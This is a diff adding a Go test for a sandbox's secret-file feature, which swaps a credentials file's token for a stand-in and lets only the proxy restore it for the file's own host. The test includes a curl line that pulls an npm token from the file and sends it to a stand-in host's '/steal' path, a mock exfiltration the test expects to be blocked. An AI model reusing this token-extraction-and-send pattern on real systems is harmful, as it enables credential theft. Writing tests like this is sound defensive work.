@@ -254,6 +254,32 @@ func TestAllowRequest(t *testing.T) {
 	assert.Contains(t, r.Content[1].Text, "DELETE /pub/a is not allowed by the host's request rules", "the refusal is in the result")
 }
 
+// TestSecretFile checks --secret-file: the sandbox sees the credentials
+// file with a stand-in, which the proxy replaces with the file's value in
+// requests to the file's host only.
+func TestSecretFile(t *testing.T) {
+	requireRootless(t)
+	ctx := testContext(t)
+	addrs, seen := authServers(t, "registry.example.com", "other.example.com")
+	_, port, _ := net.SplitHostPort(addrs["registry.example.com"])
+	const value = "npm_REALtoken0123456789abcdef"
+	npmrc := filepath.Join(t.TempDir(), ".npmrc")
+	writeHostFile(t, npmrc, "registry=http://registry.example.com:"+port+"/\n//registry.example.com:"+port+"/:_authToken="+value+"\n", 0o600)
+	token := `"$(sed -n 's/.*_authToken=//p' ` + npmrc + `)"`
+	r := runBoxsh(t, ctx, "", "--sandbox", "--secret-file", npmrc+"=registry.example.com", "--allow-domain", "other.example.com", "-c", sections([]string{
+		`cat ` + npmrc,
+		`curl -sS --max-time 10 -H "Authorization: Bearer ` + token + `" http://registry.example.com:` + port + `/pkg`,
+		`curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer ` + token + `" http://other.example.com:` + port + `/steal`,
+	}))
+	out := splitSections(t, r.stdout, 3)
+	require.Equal(t, 0, r.code(), r.stderr)
+	assert.Contains(t, out[0], "registry=http://registry.example.com:"+port+"/\n//registry.example.com:"+port+"/:_authToken=npm_", "the file, its shape kept")
+	assert.NotContains(t, r.stdout, value, "the value never enters the sandbox")
+	assert.Equal(t, "hello from registry.example.com /pkg", out[1])
+	assert.Equal(t, "403", out[2])
+	assert.Equal(t, []string{"registry.example.com/pkg Bearer " + value}, seen())
+}
+
 // TestSecretServe checks that a server's commands (bash calls) hold the
 // stand-in too, and that the proxy puts the value in their requests.
 func TestSecretServe(t *testing.T) {
